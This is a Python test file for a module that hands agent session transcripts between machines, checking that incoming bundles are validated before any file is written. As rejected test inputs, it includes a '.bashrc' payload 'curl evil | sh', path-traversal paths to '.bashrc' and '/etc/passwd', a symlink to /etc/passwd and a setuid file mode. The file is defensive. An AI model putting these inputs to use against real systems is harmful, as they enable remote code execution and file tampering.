"""The bundle a handoff ships, and the target's checks before it writes a byte: every field, the
folder, each path against the target's own manifest patterns, links, sizes, and files already
there (``roost.headless.runner.portable``)."""

from __future__ import annotations

import base64
import os
from pathlib import Path
from typing import Any

import pytest

from roost.base.errors import Conflict, TooLarge, UsageError
from roost.headless.runner import portable
from roost.headless.runner.store import Entry

CLAUDE = (".claude/projects/*/{session_id}.jsonl", ".claude/projects/*/{session_id}/**")
SID = "0f3c-aa.1"


def entry(cwd: Path) -> Entry:
    return Entry(key="n1:10:20", harness="claude", cwd=str(cwd), started_at=1.5, session_id=SID, name="w")


def document(folder: Path, files: list[dict[str, Any]] | None = None, **changes: Any) -> dict[str, Any]:
    found = [portable.File(".claude/projects/-p/0f3c-aa.1.jsonl", 0o600, b'{"turn": 1}\n')]
    doc = portable.bundle(entry(folder), ["claude-agent-acp"], found)
    if files is not None:
        doc["files"] = files
    doc.update(changes)
    return doc


def one(path: str, content: bytes = b"x", mode: int = 0o600) -> dict[str, Any]:
    return {"path": path, "mode": mode, "content": base64.b64encode(content).decode()}


def test_patterns_name_the_sessions_files_and_nothing_else() -> None:
    named = [".claude/projects/-tmp-p/0f3c-aa.1.jsonl", ".claude/projects/-p/0f3c-aa.1/subagents/a.jsonl"]
    others = [
        ".claude/projects/-p/0f3c-aa.2.jsonl",  # another session
        ".claude/projects/-p/0f3cXaa.1.jsonl",  # the id's dot is a dot, not any character
        ".claude/projects/a/b/0f3c-aa.1.jsonl",  # `*` stays within one folder name
        ".claude/settings.json",
        ".bashrc",
    ]
    assert all(portable.named(CLAUDE, SID, path) for path in named)
    assert not any(portable.named(CLAUDE, SID, path) for path in others)


def test_collect_takes_the_regular_files_the_patterns_name(tmp_path: Path) -> None:
    folder = tmp_path / ".claude" / "projects" / "-p"
    (folder / SID / "subagents").mkdir(parents=True)
    (folder / f"{SID}.jsonl").write_text("one\n")
    (folder / SID / "subagents" / "a.jsonl").write_text("two\n")
    (folder / "other.jsonl").write_text("not this session's\n")
    os.symlink("/etc/passwd", folder / SID / "link.jsonl")
    found = {f.path: f.content for f in portable.collect(CLAUDE, SID, tmp_path)}
    assert found == {
        f".claude/projects/-p/{SID}.jsonl": b"one\n",
        f".claude/projects/-p/{SID}/subagents/a.jsonl": b"two\n",
    }


def test_a_transcript_past_the_cap_is_refused_on_the_owner(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    folder = tmp_path / ".claude" / "projects" / "-p"
    folder.mkdir(parents=True)
    (folder / f"{SID}.jsonl").write_bytes(b"x" * 2048)
    monkeypatch.setattr(portable, "MAX_FILES", 1024)
    with pytest.raises(TooLarge) as refused:
        portable.collect(CLAUDE, SID, tmp_path)
    assert refused.value.extra["code"] == "transcript_too_large"


def test_read_takes_what_roost_sends(tmp_path: Path) -> None:
    arrival = portable.read(document(tmp_path), 9.0)
    assert arrival.origin == "n1:10:20"
    assert (arrival.entry.key, arrival.entry.session_id, arrival.entry.cwd) == ("", SID, str(tmp_path))
    assert (arrival.entry.name, arrival.entry.policy, arrival.entry.suspended) == ("w", "attention", True)
    assert arrival.entry.env == {}  # the environment never travels
    assert [f.content for f in arrival.files] == [b'{"turn": 1}\n']


@pytest.mark.parametrize(
    ("changes", "field"),
    [
        ({"version": 2}, "version"),
        ({"session_id": "a\nb"}, "session_id"),
        ({"cwd": "relative/path"}, "cwd"),
        ({"policy": "yolo"}, "policy"),
        ({"recap": "yes"}, "recap"),
        ({"adapter": "claude-agent-acp"}, "adapter"),
        ({"files": [one("../../.bashrc")]}, "files"),
        ({"files": [one("/etc/passwd")]}, "files"),
        ({"files": [one(".claude/./x")]}, "files"),
        ({"files": [one(".claude/x", mode=0o4755)]}, "files"),
        ({"files": [{"path": ".claude/x", "mode": 384, "content": "not base64!"}]}, "files"),
        ({"extra": 1}, "handoff"),
    ],
)
def test_read_refuses_a_bundle_naming_the_field(tmp_path: Path, changes: dict[str, Any], field: str) -> None:
    with pytest.raises(UsageError) as refused:
        portable.read(document(tmp_path, **changes), 9.0)
    assert refused.value.extra["field"] == field


def test_place_writes_the_files_private_under_home(tmp_path: Path) -> None:
    home, cwd = tmp_path / "home", tmp_path / "repo"
    home.mkdir()
    cwd.mkdir()
    assert len(portable.place(portable.read(document(cwd), 9.0), CLAUDE, home, "n2")) == 1
    written = home / ".claude" / "projects" / "-p" / f"{SID}.jsonl"
    assert written.read_bytes() == b'{"turn": 1}\n'
    assert (written.stat().st_mode & 0o777, written.parent.stat().st_mode & 0o777) == (0o600, 0o700)
    # The same bundle again (the origin asking after it was cut short) changes nothing.
    assert portable.place(portable.read(document(cwd), 9.0), CLAUDE, home, "n2") == []


def test_place_refuses_a_missing_folder_a_path_the_manifest_does_not_name_a_link_and_a_different_file(
    tmp_path: Path,
) -> None:
    home, cwd = tmp_path / "home", tmp_path / "repo"
    home.mkdir()
    with pytest.raises(Conflict) as refused:
        portable.place(portable.read(document(cwd), 9.0), CLAUDE, home, "n2")
    assert refused.value.extra["code"] == "no_cwd"
    assert f"{cwd} is not a folder on n2" in refused.value.message
    cwd.mkdir()
    stranger = document(cwd, files=[one(".bashrc", b"curl evil | sh")])
    with pytest.raises(UsageError) as refused:
        portable.place(portable.read(stranger, 9.0), CLAUDE, home, "n2")
    assert refused.value.extra["code"] == "not_a_transcript"
    (home / ".claude").mkdir()
    os.symlink(tmp_path / "elsewhere", home / ".claude" / "projects")
    with pytest.raises(Conflict) as refused:
        portable.place(portable.read(document(cwd), 9.0), CLAUDE, home, "n2")
    assert "symbolic link" in refused.value.message
    (home / ".claude" / "projects").unlink()
    there = home / ".claude" / "projects" / "-p" / f"{SID}.jsonl"
    there.parent.mkdir(parents=True)
    there.write_text("another conversation\n")
    with pytest.raises(Conflict) as refused:
        portable.place(portable.read(document(cwd), 9.0), CLAUDE, home, "n2")
    assert refused.value.extra["code"] == "transcript_differs"
    assert there.read_text() == "another conversation\n"
    assert not (tmp_path / "elsewhere").exists() and not (home / ".bashrc").exists()
